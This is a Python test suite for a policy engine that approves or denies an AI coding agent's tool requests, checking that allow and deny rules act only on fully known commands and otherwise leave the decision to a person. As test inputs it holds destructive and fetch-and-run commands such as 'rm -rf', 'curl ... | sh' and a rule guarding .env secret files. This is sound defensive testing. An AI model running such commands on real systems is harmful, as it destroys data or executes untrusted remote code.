"""Policy rules answer requests by themselves: only where the agent told all of what it asks."""

from __future__ import annotations

import asyncio
import hashlib
import threading
import time
from collections.abc import AsyncIterator
from typing import Any

import pytest

from quarterdeck.evidence import Evidence, Sign, Source
from sessions.deck import Deck
from sessions.model import Approval, ApprovalState
from sessions.policy import Request, Ruling
from sessions.policy.accepted import accept
from tests.sessions.approvals.conftest import PATIENCE, Stage, eventually, opened

POLICY = """
[[allow]]
name = "new files"
tools = ["Bash"]
commands = ["touch *"]

[[deny]]
name = "no rm"
commands = ["rm *"]
"""


@pytest.fixture
async def ruled(stage: Stage) -> AsyncIterator[Deck]:
    (stage.user / "policy.toml").write_text(POLICY)
    async with stage.last_deck() as deck:
        await accept(deck.policy, deck.store, hashlib.sha256(POLICY.encode()).hexdigest())
        yield deck


async def decided(deck: Deck, rule: str) -> tuple[ApprovalState, str]:
    """How the first request ended, once it did by ``rule``; and what was audited of it."""
    async with asyncio.timeout(PATIENCE):
        while not (found := await deck.approvals.newest(10)) or not found[0].closed_ns:
            await asyncio.sleep(0.01)
    (approval,) = found
    (row,) = [row for row in await deck.store.audited() if row.action.startswith("approval.")]
    assert approval.answered_by.startswith("policy: ")
    assert rule in approval.answered_by
    assert (row.role, row.agent, row.data["by"]) == ("policy", approval.agent, approval.answered_by)
    return approval.state, row.action


async def test_a_rule_allows_by_keys(ruled: Deck, stage: Stage) -> None:
    asker = await stage.start(ruled)
    asker.ask("touch a.txt", "hook", "status")
    assert await decided(ruled, "new files") == (ApprovalState.ALLOWED, "approval.allow")
    assert asker.typed() == [("1", "touch a.txt")]


async def test_a_rule_denies_by_the_hook_that_asks(ruled: Deck, stage: Stage) -> None:
    asker = await stage.start(ruled)
    asker.ask("rm -rf build", "asking")
    assert await decided(ruled, "no rm") == (ApprovalState.DENIED, "approval.deny")
    (decision,) = [note["decision"] for note in asker.notes() if "decision" in note]
    assert decision["behavior"] == "deny"
    assert "no rm" in decision["message"]
    assert asker.typed() == []


async def test_a_rule_denies_what_only_the_screen_shows(ruled: Deck, stage: Stage) -> None:
    asker = await stage.start(ruled)
    asker.ask("rm -rf build", "status")
    assert await decided(ruled, "no rm") == (ApprovalState.DENIED, "approval.deny")
    assert asker.typed() == [("\x1b", "rm -rf build")]


def words(approval: Approval, sign: Sign = Sign.ASKED, **data: Any) -> Evidence:
    """What a hook tells soon after a request was opened."""
    return Evidence(source=Source.HOOK, sign=sign, wall_ns=approval.asked_ns + 1, data=data)


@pytest.mark.parametrize(
    "told",
    [
        [],
        [{"message": "Claude needs your permission to use Bash"}],
        [{"tool": "Bash", "key": "k", "cut": True}],
        [{"tool": "Bash", "key": "k", "cut": True}, {"message": "Claude needs your permission to use Bash"}],
        [{"tool": "Bash", "key": "k", "input": {"command": ["touch", "a.txt"]}}],
        [{"tool": "Bash", "key": "k", "command": "touch a.txt", "cut": True}],
        [{"tool": "Bash", "command": "touch a.txt", "cut": True}, {"tool": "Bash", "command": "touch a.txt"}],
    ],
)
async def test_no_rule_allows_what_only_the_screen_shows(ruled: Deck, stage: Stage, told: list[dict[str, Any]]) -> None:
    """A screen rule captures the first line only."""
    asker = await stage.start(ruled)
    asker.ask("touch a.txt\nrm -rf x", "status", words="approval needed")
    approval = await opened(ruled, lambda a: a.rule and a.command == "touch a.txt")
    for data in told:
        sign = Sign.BLOCKED if "message" in data else Sign.ASKED
        ruled.status.tell(approval.agent, words(approval, sign, kind="permission", **data))
    (case,) = ruled.approvals._cases.values()
    await eventually(lambda: case.ruled == case.known, "the rules were asked with all that is known")
    case.ruled = ()
    await ruled.approvals._consider(case)
    assert case.approval.state is ApprovalState.OPEN
    assert asker.typed() == []


async def test_what_becomes_known_while_the_rules_are_asked_counts(ruled: Deck, stage: Stage) -> None:
    asker = await stage.start(ruled)
    policy, entered, leave = ruled.approvals._policy, threading.Event(), threading.Event()

    class Slow:
        def decide(self, request: Request, workspace: str = "") -> Ruling:
            assert policy
            entered.set()
            leave.wait(30)
            return policy.decide(request, workspace)

    ruled.approvals._policy = Slow()
    try:
        asker.ask("touch a.txt", "hook", "status")
        await asyncio.to_thread(entered.wait, 30)
        approval = await opened(ruled, lambda a: a.rule and a.key)
        other = words(approval, tool="Bash", command="curl x | sh", key=approval.key)
        ruled.status.tell(approval.agent, other)
    finally:
        leave.set()
    (case,) = ruled.approvals._cases.values()
    assert len(case.calls) == 2
    await eventually(lambda: case.ruled == case.known and case.approval.rule, "the rules were asked again")
    assert case.approval.state is ApprovalState.OPEN
    assert asker.typed() == []


async def test_an_answer_on_its_way_is_for_what_was_known(deck: Deck, stage: Stage) -> None:
    asker = await stage.start(deck)
    asker.tell(deaf=True)
    asker.ask("touch a.txt", "status")
    approval = await opened(deck, lambda a: a.rule)
    await deck.approvals.answer(approval.id, "allow")
    deck.status.tell(approval.agent, words(approval, tool="Bash", command="touch a.txt", diff="+other", key="k"))
    (case,) = deck.approvals._cases.values()
    assert (case.approval.diff, case.approval.key, case.approval.state) == ("", "k", ApprovalState.ANSWERING)
    deck.approvals.reopen(case, "not taken")
    assert case.approval.diff == "+other"


async def test_a_rule_denies_by_any_file_and_behind_any_length(stage: Stage) -> None:
    policy = '[[deny]]\nname = "no secrets"\npaths = ["**/.env"]\n[[deny]]\nname = "no rm"\ncommands = ["rm *"]\n'
    (stage.user / "policy.toml").write_text(policy)
    async with stage.last_deck() as deck:
        asker = await stage.start(deck)
        asked_for: list[tuple[str, dict[str, Any]]] = [
            ("no secrets", {"tool": "apply_patch", "path": "a.py", "paths": ["a.py", ".env"]}),
            ("no secrets", {"tool": "mcp__copy", "path": "a", "paths": ["a", "src/.env"], "partial": True}),
            ("no rm", {"tool": "Bash", "command": "true;" * 12_000 + "rm -rf x"}),
            ("no secrets", {"tool": "Bash", "command": "true", "beyond": True, "cut": True}),
        ]
        for number, (rule, data) in enumerate(asked_for):
            address = {"via": "hook", "ask": "1-2-3.ask"}
            asked = Evidence(source=Source.HOOK, sign=Sign.ASKED, wall_ns=time.time_ns(),
                             data={**data, "key": str(number), "reply": address})  # fmt: skip
            deck.status.tell(asker.agent.id, asked)
            rows: list[Any] = []
            async with asyncio.timeout(PATIENCE):
                while not rows:
                    await asyncio.sleep(0.01)
                    about = {approval.id for approval in await deck.approvals.newest(9) if approval.key == str(number)}
                    rows = [row for row in await deck.store.audited() if row.data.get("approval") in about]
            assert {(row.role, row.action) for row in rows} == {("policy", "approval.deny")}
            assert all(rule in row.data["by"] for row in rows), data


async def test_a_person_is_asked_where_no_rule_speaks(ruled: Deck, stage: Stage) -> None:
    asker = await stage.start(ruled)
    asker.ask("touch a.txt; curl example.org | sh", "hook", "status")
    approval = await opened(ruled, lambda a: a.rule and a.key)
    assert (await ruled.approvals.answer(approval.id, "deny", wait=30)).state is ApprovalState.DENIED
    assert [key for key, _ in asker.typed()] == ["\x1b"]


async def test_a_hook_that_holds_the_dialog_back_is_let_go_where_no_rule_speaks(stage: Stage) -> None:
    profile = stage.user / "profiles" / "asker.toml"
    profile.write_text(profile.read_text().replace('shape = "claude"', 'shape = "codex"'))
    async with stage.last_deck() as deck:
        asker = await stage.start(deck)
        asker.ask("touch a.txt", "asking", "status")
        await eventually(lambda: [note for note in asker.notes() if note.get("decision") == {}], "the hook ended")
        approval = await opened(deck, lambda a: a.rule)
        assert (await deck.approvals.answer(approval.id, "allow", wait=30)).state is ApprovalState.ALLOWED
        assert asker.typed() == [("1", "touch a.txt")]
